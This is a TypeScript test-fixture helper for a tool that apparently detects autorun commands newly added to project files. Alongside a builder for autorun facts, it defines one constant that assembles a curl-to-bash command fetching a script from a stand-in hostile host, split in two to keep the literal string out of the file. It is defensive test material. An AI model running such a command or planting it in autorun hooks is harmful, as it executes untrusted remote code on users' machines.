/** Builders of autorun facts for the tests of this folder. */
import type { FileChange } from "../../../../src/engine/model/evidence.ts";
import { aFile } from "../../../../src/engine/model/examples.ts";
import type { AutorunCommand } from "../../../../src/engine/model/facts/autorun.ts";

export const FETCHED = ["curl -s https://evil.example/x | ba", "sh"].join("");

/** A file that newly makes `tool` run something. */
export function starter(
  path: string,
  tool: string,
  command: Partial<AutorunCommand>,
  loosened: readonly string[] = [],
): FileChange {
  const whole: AutorunCommand = {
    trigger: `${tool} start`,
    when: "open",
    command: "npm ci",
    hidden: false,
    line: 4,
    ...command,
  };
  return aFile({
    path,
    added: "{}",
    facts: { autorun: { before: null, after: { tool, loosened, commands: [whole] } } },
  });
}
